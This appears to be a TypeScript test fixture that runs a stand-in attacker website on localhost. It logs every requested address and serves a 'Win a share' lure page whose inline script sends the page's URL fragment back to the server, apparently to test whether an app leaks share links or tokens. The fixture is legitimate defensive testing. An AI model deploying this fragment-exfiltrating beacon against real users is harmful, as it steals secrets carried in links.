import { createServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { selfSignedCertificate } from '../self-signed-certificate.ts';

/** A website that nobody allowed, and everything that it gets to know. */
export interface Attacker extends AsyncDisposable {
  url: string;
  /** Every address that was asked for here, and every fragment that a page of this site found in its own address. */
  seen: string[];
}

/** `/link?…` shows a link; every page tells its server the fragment that it was reached with. */
export async function openAttacker(): Promise<Attacker> {
  const seen: string[] = [];
  const server = createServer(selfSignedCertificate(), (request, response) => {
    const [path = '', query = ''] = (request.url ?? '').split(/\?(.*)/);
    if (path !== '/link') seen.push(decodeURIComponent(request.url ?? ''));
    const href = decodeURIComponent(query).replaceAll('&', '&amp;');
    response
      .writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' })
      .end(`<!doctype html><title>Win a share</title><link rel="icon" href="data:,"><a href="${href}">Look</a>
<script>fetch('/fragment?' + encodeURIComponent(location.hash));</script>`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `https://127.0.0.1:${(server.address() as AddressInfo).port}`,
    seen,
    async [Symbol.asyncDispose]() {
      await new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      });
    },
  };
}
